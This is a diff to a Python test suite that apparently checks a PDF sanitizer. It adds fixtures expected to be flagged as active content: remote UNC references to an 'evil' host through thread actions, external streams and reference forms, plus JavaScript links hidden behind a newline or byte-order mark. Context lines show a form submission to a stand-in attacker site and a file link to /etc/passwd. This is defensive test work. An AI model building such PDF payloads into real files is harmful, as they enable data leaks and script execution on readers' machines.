@@ -33,6 +33,20 @@ def _page_script(made):
     made.pages[0].AA = Dictionary(O=script)
 
 
+def _link(address):
+    return _action(S=Name.URI, URI=String(address))
+
+
+def _data_elsewhere(made):
+    made.pages[0].Contents = Stream(made, b"", F=String(r"\\evil\x"))
+
+
+def _page_elsewhere(made):
+    form = Stream(made, b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
+    form.Ref = Dictionary(F=String(r"\\evil\x"), Page=0)
+    made.pages[0].Resources = Dictionary(XObject=Dictionary(Fm0=form))
+
+
 def _annotation(subtype):
     def change(made):
         note = Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=Array([0, 0, 9, 9]))
@@ -157,6 +171,11 @@ BAD = {
     "send a form": (_action(S=Name.SubmitForm, F=String("https://evil.example")), "active_content"),
     "fetch a form": (_action(S=Name.ImportData, F=String("x.fdf")), "active_content"),
     "open a file elsewhere": (_action(S=Name.GoToR, F=String(r"\\evil\x")), "active_content"),
+    "follow a thread elsewhere": (_action(S=Name.Thread, F=String(r"\\evil\x")), "active_content"),
+    "data elsewhere": (pdf(change=_data_elsewhere), "active_content"),
+    "a page elsewhere": (pdf(change=_page_elsewhere), "active_content"),
+    "a link with a break in it": (_link("java\nscript:alert(1)"), "active_content"),
+    "a link behind a mark": (_link("\ufeffjavascript:alert(1)"), "active_content"),
     "open an inner file": (_action(S=Name.GoToE), "active_content"),
     "link to a file": (_action(S=Name.URI, URI=String("FILE:///etc/passwd")), "active_content"),
     "media": (_annotation("/RichMedia"), "active_content"),
